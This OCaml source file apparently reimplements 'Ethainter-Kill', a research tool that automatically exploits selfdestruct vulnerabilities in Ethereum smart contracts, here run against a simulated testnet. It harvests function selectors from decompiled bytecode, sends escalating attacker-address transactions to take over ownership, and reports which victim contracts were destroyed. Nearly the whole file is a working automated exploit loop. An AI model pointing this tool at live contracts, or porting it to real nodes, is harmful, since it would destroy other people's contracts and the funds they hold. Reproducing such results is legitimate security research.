(** Ethainter-Kill: automatic end-to-end exploitation of
    selfdestruct vulnerabilities flagged by Ethainter (§6.1).

    "Ethainter-Kill is fully automated — it reads Ethainter's output,
    connects to Ethereum nodes and proceeds to exploit a subset of
    vulnerabilities ... Ethainter-Kill also verified whether the
    transactions resulted in the contract actually being destroyed by
    analyzing the exact VM instruction trace and identifying whether
    the selfdestruct opcode was executed."

    Our tool follows the same loop against the {!Ethainter_chain}
    testnet:
    1. consume Ethainter reports; only [accessible selfdestruct] /
       [tainted selfdestruct] are supported (as in the paper);
    2. recover the contract's public ABI surface from the bytecode by
       harvesting 4-byte selector comparisons in the decompiled
       dispatcher — if the flagged statement lies in orphan code (no
       path from the entry), give up: "Ethainter-Kill was unable to
       find a public entry point";
    3. fire transactions: every selector, attacker-address words as
       arguments, over several escalation rounds (composite attacks
       like §2's need earlier calls to install the attacker as
       user/admin/owner before the kill succeeds);
    4. declare success only if the victim is gone from the post-state
       after a transaction ({!Ethainter_chain.Testnet.is_alive} is
       false). The paper checks the instruction trace for an executed
       [SELFDESTRUCT]; the post-state is the stricter judge, because a
       [SELFDESTRUCT] inside an inner call that later reverted shows in
       the trace (and in the receipt's effects) yet destroys nothing. *)

module U = Ethainter_word.Uint256
module Op = Ethainter_evm.Opcode
module T = Ethainter_chain.Testnet
open Ethainter_tac

type attempt = {
  a_contract : U.t;
  a_outcome : outcome;
  a_txs_sent : int;
}

and outcome =
  | Destroyed                 (** contract gone from the post-state *)
  | NoPublicEntry             (** flagged statement unreachable from entry *)
  | NotExploited              (** calls went through but no destruction *)
  | NothingToDo               (** no supported vulnerability in reports *)

let outcome_to_string = function
  | Destroyed -> "destroyed"
  | NoPublicEntry -> "no public entry point"
  | NotExploited -> "not exploited"
  | NothingToDo -> "no supported vulnerability"

(** Extract the public function selectors from decompiled bytecode:
    4-byte constants compared (EQ) against anything in the program.
    This recovers the Solidity dispatcher without source or ABI. *)
let harvest_selectors (p : Tac.program) : U.t list =
  let four_byte v =
    U.gt v U.zero && U.lt v (U.shift_left U.one 32)
  in
  let sels = ref [] in
  List.iter
    (fun (s : Tac.stmt) ->
      match s.Tac.s_op with
      | Tac.TOp Op.EQ ->
          List.iter
            (fun a ->
              match Tac.const_of p a with
              | Some c when four_byte c ->
                  if not (List.exists (U.equal c) !sels) then
                    sels := c :: !sels
              | _ -> ())
            s.Tac.s_args
      | _ -> ())
    (Tac.stmts p);
  List.rev !sels

let selector_calldata (sel : U.t) (args : U.t list) : string =
  let selbytes = String.sub (U.to_bytes sel) 28 4 in
  selbytes ^ String.concat "" (List.map U.to_bytes args)

(** Attempt to destroy [victim] on [net], given Ethainter's reports for
    its runtime bytecode. [rounds] bounds the escalation depth. *)
let attack ?(rounds = 4) (net : T.t) ~(attacker : U.t) ~(victim : U.t)
    (reports : Ethainter_core.Vulns.report list) : attempt =
  let supported =
    List.filter
      (fun (r : Ethainter_core.Vulns.report) ->
        match r.Ethainter_core.Vulns.r_kind with
        | Ethainter_core.Vulns.AccessibleSelfdestruct
        | Ethainter_core.Vulns.TaintedSelfdestruct ->
            true
        | _ -> false)
      reports
  in
  if supported = [] then
    { a_contract = victim; a_outcome = NothingToDo; a_txs_sent = 0 }
  else begin
    (* the chain just executed this contract, so the pre-decoded
       program is a guaranteed cache hit — the decompile pays zero
       decodes *)
    let prog = Ethainter_evm.State.program (T.state net) victim in
    let p = Decomp.decompile_program prog in
    (* paper: "For the rest, Ethainter-Kill was unable to find a public
       entry point that would reach the private, Ethainter-flagged
       vulnerable statement." *)
    let all_orphan =
      List.for_all
        (fun (r : Ethainter_core.Vulns.report) ->
          r.Ethainter_core.Vulns.r_orphan)
        supported
    in
    if all_orphan then
      { a_contract = victim; a_outcome = NoPublicEntry; a_txs_sent = 0 }
    else begin
      let sels = harvest_selectors p in
      let txs = ref 0 in
      let destroyed = ref false in
      let arg_sets =
        [ [ attacker; attacker; attacker ] (* address-shaped args *) ]
      in
      let fire sel args =
        if not !destroyed then begin
          incr txs;
          ignore
            (T.transact net ~from:attacker ~to_:victim
               (selector_calldata sel args));
          if not (T.is_alive net victim) then destroyed := true
        end
      in
      (* escalation rounds: sweep all selectors; state changes from
         earlier calls (become user, become admin, become owner)
         unlock later ones *)
      let round = ref 0 in
      while (not !destroyed) && !round < rounds do
        incr round;
        List.iter
          (fun sel -> List.iter (fun args -> fire sel args) arg_sets)
          sels
      done;
      let outcome =
        if !destroyed then Destroyed
        else if sels = [] then NoPublicEntry
        else NotExploited
      in
      { a_contract = victim; a_outcome = outcome; a_txs_sent = !txs }
    end
  end

type campaign_stats = {
  flagged : int;
  pinpointed : int;  (** a public entry point was found *)
  destroyed : int;
  not_exploited : int;
  total_txs : int;
}

(** Run Kill over a batch of (victim, reports) pairs — the Ropsten-fork
    campaign of Experiment 1. *)
let campaign ?(rounds = 4) (net : T.t) ~(attacker : U.t)
    (targets : (U.t * Ethainter_core.Vulns.report list) list) :
    campaign_stats * attempt list =
  let attempts =
    List.map
      (fun (victim, reports) -> attack ~rounds net ~attacker ~victim reports)
      targets
  in
  let count f = List.length (List.filter f attempts) in
  ( { flagged = List.length targets;
      pinpointed = count (fun a -> a.a_outcome <> NoPublicEntry
                                   && a.a_outcome <> NothingToDo);
      destroyed = count (fun a -> a.a_outcome = Destroyed);
      not_exploited = count (fun a -> a.a_outcome = NotExploited);
      total_txs = List.fold_left (fun n a -> n + a.a_txs_sent) 0 attempts },
    attempts )
